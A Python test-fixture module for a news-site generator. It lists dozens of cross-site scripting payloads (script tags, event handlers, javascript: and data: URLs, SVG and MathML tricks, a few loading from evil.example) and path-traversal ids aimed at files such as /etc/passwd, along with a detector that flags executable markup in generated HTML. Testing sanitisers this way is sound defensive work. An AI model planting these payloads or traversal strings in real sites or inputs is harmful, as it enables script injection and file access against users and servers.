"""Hostile inputs the local upstream serves in every field of a story.

Markup vectors go into titles, digests, bodies and media names; path vectors
into ids. The checks in ``active_content`` say what may never reach an
output: any element or attribute that runs code or loads a foreign document.
"""

from __future__ import annotations

import re

from selectolax.lexbor import LexborHTMLParser

#: Script, event handlers, dangerous URLs in every URL attribute, SVG and
#: MathML tricks, CSS expressions, malformed and nested tags, entity-encoded
#: and control-character-split payloads.
XSS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x\" ONERROR='alert(1)'>",
    "<body onload=alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\" \tjavascript:alert(1)\">x</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
    "<a href=\"&#x6A;avascript&colon;alert(1)\">x</a>",
    "<a href=\"java\u0000script:alert(1)\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<img src=\"javascript:alert(1)\">",
    "<img srcset=\"javascript:alert(1) 1x\">",
    "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<embed src=\"javascript:alert(1)\">",
    "<form action=\"javascript:alert(1)\"><button>go</button></form>",
    "<button formaction=\"javascript:alert(1)\">x</button>",
    "<input onfocus=alert(1) autofocus>",
    "<video poster=\"javascript:alert(1)\"><source onerror=alert(1)></video>",
    "<table background=\"javascript:alert(1)\"><tr><td>x</td></tr></table>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' onload='alert(1)'/>#x\"/></svg>",
    "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<p style=\"width: expression(alert(1))\">t</p>",
    "<div style=\"background:url(javascript:alert(1))\">t</div>",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<link rel=stylesheet href=\"javascript:alert(1)\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<base href=\"javascript:alert(1)//\">",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>script>alert(1)<</script>/script>",
    "<p>unclosed <b>bold <i>italic <script>alert(1)",
    "<!-- --><script>alert(1)</script><!-- -->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<template><script>alert(1)</script></template>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "{{ site.title }}{% raw %}<script>alert(1)</script>",
    "---\nlayout: evil\n---<script>alert(1)</script>",
    "<a href=\"http://ok.example/\" onmouseover=\"alert(1)\">ok</a>",
    "<xss onafterscriptexecute=alert(1)><script>1</script>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
]

#: Ids that try to walk out of the output folders.
HOSTILE_IDS = [
    "../../../../../tmp/finews-escape", "..\\..\\..\\finews-escape", "/etc/passwd",
    "%2e%2e%2f%2e%2e%2fescape", "a/../../../b", "....//....//escape", ".hidden",
    "~root", "CON", "x\u2025/..\u2215escape", "<script>alert(1)</script>", "a" * 250,
    "null\u0000byte", "..", ".",
]

_URL_ATTRS = {"href", "src", "action", "formaction", "data", "poster", "background",
              "xlink:href", "srcset", "codebase", "cite", "longdesc", "dynsrc", "lowsrc",
              "ping", "manifest", "icon", "srcdoc"}
_BAD_TAGS = {"iframe", "object", "embed", "applet", "frame", "frameset", "form", "input",
             "button", "textarea", "select", "base", "svg", "math", "video", "audio",
             "source", "marquee", "xss", "noscript", "template", "details", "animate"}
_BAD_SCHEME = re.compile(r"^(javascript|vbscript|data|livescript|mocha):", re.I)
_CONTROL = re.compile(r"[\x00-\x20\u200b\u00ad]+")


def _scheme_bad(value: str) -> bool:
    return bool(_BAD_SCHEME.match(_CONTROL.sub("", value)))


def active_content(html: str, *, own_script: str | None = None) -> list[str]:
    """What in ``html`` could run code; [] when nothing can.

    ``own_script`` is the site's own script URL prefix: a ``<script src>``
    there with no inline code is the site's, not the upstream's.
    """
    found = []
    tree = LexborHTMLParser(html)
    for node in tree.root.traverse(include_text=False) if tree.root else []:
        tag = (node.tag or "").lower()
        attrs = node.attributes
        if tag == "script":
            src = attrs.get("src") or ""
            if own_script is None or not src.endswith(own_script) or node.text().strip():
                found.append(f"<script src={src!r}>{node.text()[:40]}")
            continue
        own_search = (tag == "form" and attrs.get("class") == "search"
                      or tag == "input" and attrs.get("name") == "q")
        if tag in _BAD_TAGS and not own_search:
            found.append(f"<{tag}>")
        if tag == "meta" and (attrs.get("http-equiv") or "").lower() == "refresh":
            target = (attrs.get("content") or "").partition("=")[2].strip()
            if _scheme_bad(target) or "//" in target:  # the site's own redirects are relative
                found.append(f"<meta refresh {target[:40]!r}>")
        if tag == "style" and re.search(r"@import|expression|javascript:", node.text(), re.I):
            found.append("<style> with code")
        for name, value in attrs.items():
            low = name.lower()
            if low.startswith("on"):
                found.append(f"{tag}[{name}]")
            elif low in _URL_ATTRS and value and (_scheme_bad(value) or low == "srcdoc"):
                found.append(f"{tag}[{name}={value[:40]!r}]")
            elif low == "style" and value and re.search(r"expression|javascript:|url\(",
                                                        value, re.I):
                found.append(f"{tag}[style={value[:40]!r}]")
    return found
